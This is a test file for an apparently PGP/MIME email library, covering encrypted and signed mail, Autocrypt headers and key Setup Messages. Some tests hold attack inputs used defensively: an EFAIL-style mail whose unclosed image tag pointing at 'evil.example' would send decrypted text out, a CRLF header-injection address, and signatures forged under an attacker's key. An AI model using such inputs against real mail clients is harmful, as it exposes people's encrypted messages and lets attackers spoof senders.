/** Mails: PGP/MIME written and read, protected subject, Autocrypt headers and Setup Messages. */
import assert from "node:assert/strict";
import { before, test } from "node:test";
import {
  autocryptHeader, autocryptSetupMessage, composeMail, encrypt, generateKey, PgpError, readAutocryptHeader, readAutocryptSetupMessage, readMail,
} from "envelock";

const passphrase = "harbour";
const from = { name: "Anna Berg", address: "anna@demo.example" };
const to = { name: "Bén", address: "ben@demo.example" };
let anna, ben;
before(async () => {
  anna = (await generateKey({ userIds: [{ name: "Anna Berg", email: "anna@demo.example" }], passphrase })).key;
  ben = (await generateKey({ userIds: [{ email: "ben@demo.example" }], profile: "rfc9580", passphrase })).key;
});
const rejects = (promise, code) => assert.rejects(promise, (error) => {
  assert.ok(error instanceof PgpError, String(error));
  assert.equal(error.code, code, error.message);
  return true;
});

test("an encrypted and signed mail hides everything but addresses", async () => {
  const attachments = [{ name: "ä.bin", type: "application/pdf", data: Uint8Array.of(0, 255) }];
  const { mail, messageId } = await composeMail({
    from, to, subject: "Größe", text: "Hallo", html: "<p>Hallo</p>", attachments, recipients: [anna, ben],
    signers: { key: anna, passphrase }, autocrypt: { key: anna, address: from.address, preferEncrypt: true },
  });
  assert.match(mail, /^[\r\n\x20-\x7e]*$/);
  assert.match(mail, /Subject: \[\.\.\.\]\r\n/);
  assert.ok(mail.includes(`Message-ID: ${messageId}`));
  const read = await readMail({ mail, keys: { key: ben, passphrase }, verifyWith: anna });
  assert.deepEqual([read.subject, read.protection, read.from], ["Größe", "signed-and-encrypted", from]);
  assert.deepEqual(read.signatures.map(({ status, from }) => [status, from]), [["valid", "match"]]);
  assert.deepEqual(read.parts.map(({ type, text, name }) => [type, text ?? name]), [
    ["text/plain", "Hallo"], ["text/html", "<p>Hallo</p>"], ["application/pdf", "ä.bin"],
  ]);
  assert.deepEqual(read.parts[2].data, Uint8Array.of(0, 255));
  assert.deepEqual(read.mismatches, []);
  assert.equal(read.autocrypt.peer.certificate.fingerprint, anna.fingerprint);
  assert.equal(read.autocrypt.peer.preferEncrypt, true);
  const closed = await readMail({ mail });
  assert.deepEqual([closed.subject, closed.protection, closed.parts[0].problem.code], ["[...]", "unprotected", "no-matching-key"]);
  const wrong = await readMail({ mail, keys: { key: ben, passphrase: "wrong" } });
  assert.equal(wrong.parts[0].problem.code, "wrong-passphrase");
});

test("half a surrogate pair, as in file names of Windows, is written as what stands for unreadable characters", async () => {
  const attachments = [{ name: "x\ud83d.txt", type: "text/plain", data: Uint8Array.of(1) }];
  const { mail } = await composeMail({ from, to, subject: "x\ud83d", text: "x\ud83d", attachments });
  const { subject, parts } = await readMail({ mail });
  assert.deepEqual([subject, parts[0].text, parts[1].name], ["x\ufffd", "x\ufffd", "x\ufffd.txt"]);
});

test("a signed mail is valid as sent and not after a change", async () => {
  const { mail } = await composeMail({ from, to, subject: "Offer", text: "Pay 10 €\nFrom me\n", signers: { key: anna, passphrase } });
  const good = await readMail({ mail, verifyWith: anna });
  assert.deepEqual([good.protection, good.signatures[0].from], ["signed", "match"]);
  const bad = await readMail({ mail: mail.replace("Pay 10", "Pay 90"), verifyWith: anna });
  assert.deepEqual([bad.protection, bad.signatures[0].status], ["unprotected", "invalid"]);
  const renamed = await readMail({ mail: mail.replace("Subject: Offer", "Subject: Bill"), verifyWith: anna });
  assert.deepEqual(renamed.mismatches, [{ name: "Subject", outer: "Bill", inner: "Offer" }]);
  assert.equal(renamed.subject, "Offer");
});

test("parts in the clear and decrypted ones stay apart", async () => {
  const message = await encrypt({ data: "Content-Type: text/html\n\nsecret", recipients: ben });
  const mail = [
    "From: eve@evil.example", 'Content-Type: multipart/mixed; boundary="b"', "", "--b", "Content-Type: text/html", "",
    '<img src="http://evil.example/?', "--b", 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e"', "",
    "--e", "Content-Type: application/pgp-encrypted", "", "Version: 1", "", "--e", "Content-Type: application/octet-stream", "", message, "--e--",
    "--b", "Content-Type: text/html", "", '">', "--b--", "",
  ].join("\n");
  const { protection, parts } = await readMail({ mail, keys: { key: ben, passphrase } });
  assert.equal(protection, "unprotected");
  assert.deepEqual(parts.map(({ protection, layer, group, text }) => [protection, layer, group?.type, text]), [
    ["unprotected", 0, "mixed", '<img src="http://evil.example/?'], ["encrypted", 1, undefined, "secret"], ["unprotected", 0, "mixed", '">'],
  ]);
});

test("signed means signed by the author, and by nobody invalidly", async () => {
  const eve = (await generateKey({ userIds: [{ email: "eve@evil.example" }], passphrase })).key;
  const draft = { from, to, subject: "Pay", text: "Pay Eve" };
  const verifyWith = [anna, eve];
  const { mail: forged } = await composeMail({ ...draft, signers: { key: eve, passphrase } });
  const read = await readMail({ mail: forged, verifyWith });
  assert.deepEqual([read.protection, read.parts[0].protection, read.fields.find(({ name }) => name === "From").protection], ["unprotected", "unprotected", "unprotected"]);
  assert.deepEqual(read.signatures.map(({ status, signer, from }) => [status, signer, from]), [["valid", eve.fingerprint, "mismatch"]]);
  const { mail: both } = await composeMail({ ...draft, signers: [{ key: eve, passphrase }, { key: anna, passphrase }] });
  const good = await readMail({ mail: both, verifyWith });
  assert.deepEqual([good.protection, good.signatures.map(({ from }) => from).sort()], ["signed", ["match", "mismatch"]]);
  assert.deepEqual(good.parts[0].signatures, good.signatures);
  const unknown = await readMail({ mail: both, verifyWith: eve });
  assert.deepEqual([unknown.protection, unknown.signatures.map(({ status }) => status).sort()], ["unprotected", ["unknown-signer", "valid"]]);
});

test("more encrypted pieces than are opened: the rest is told", async () => {
  const block = await encrypt({ data: "secret", recipients: ben });
  const { parts } = await readMail({ mail: `From: a@b.example\n\n${`${block}\n`.repeat(40)}`, keys: { key: ben, passphrase } });
  assert.equal(parts.filter(({ protection }) => protection === "encrypted").length, 32);
  assert.equal(parts.at(-1).problem.code, "too-large");
});

test("text in charsets only the platform knows", async () => {
  const mail = Buffer.concat([Buffer.from("From: a@b.example\nContent-Type: text/plain; charset=koi8-r\n\n"), Buffer.from([0xf0, 0xf2])]);
  assert.equal((await readMail({ mail })).parts[0].text, "ПР");
});

test("Autocrypt headers in and out", async () => {
  const value = await autocryptHeader({ key: anna, address: from.address });
  const learn = (mail) => readAutocryptHeader({ mail });
  const { peer } = await learn(`From: ${from.address}\r\nAutocrypt: ${value}\r\n\r\nx`);
  assert.deepEqual([peer.address, peer.preferEncrypt, peer.certificate.fingerprint], [from.address, false, anna.fingerprint]);
  assert.deepEqual(await learn(`From: eve@evil.example\r\nAutocrypt: ${value}\r\n\r\nx`), { ignored: "other-sender" });
  assert.deepEqual(await learn(`From: ${from.address}\r\nAutocrypt: ${value}\r\nAutocrypt: ${value}\r\n\r\nx`), { ignored: "several" });
  await rejects(autocryptHeader({ key: anna, address: "eve@evil.example" }), "bad-option");
});

test("a secret key moves in a Setup Message", async () => {
  const { mail, code } = await autocryptSetupMessage({ key: { key: anna, passphrase }, address: from.address, preferEncrypt: true });
  assert.match(code, /^(\d{4}-){8}\d{4}$/);
  assert.deepEqual(await readAutocryptSetupMessage({ mail }), { codeBegins: code.slice(0, 2), preferEncrypt: false });
  const opened = await readAutocryptSetupMessage({ mail, code: code.replaceAll("-", " "), newPassphrase: "new" });
  assert.deepEqual([opened.key.fingerprint, opened.key.locked, opened.preferEncrypt], [anna.fingerprint, true, true]);
  await rejects(readAutocryptSetupMessage({ mail, code: "1".repeat(36) }), "decryption-failed");
});

test("what cannot be written is refused", async () => {
  const draft = { from, to, subject: "s", text: "t" };
  await rejects(composeMail({ ...draft, to: { address: "a@b\r\nBcc: c@d" } }), "bad-address");
  await rejects(composeMail({ ...draft, inReplyTo: "x" }), "bad-header");
  await rejects(composeMail({ ...draft, recipients: ben, gossip: [{ key: anna, address: from.address }] }), "bad-autocrypt");
  await rejects(composeMail({ ...draft, gossip: [{ key: ben, address: "ben@demo.example" }] }), "bad-autocrypt");
  await rejects(composeMail({ ...draft, autocrypt: { key: ben, address: "ben@demo.example" } }), "bad-autocrypt");
  await rejects(composeMail({ ...draft, signers: { key: anna, passphrase: "wrong" } }), "wrong-passphrase");
  await rejects(composeMail({ ...draft, bcc: to }), "unknown-option");
  await rejects(readMail({ mail: "" }), "malformed");
});
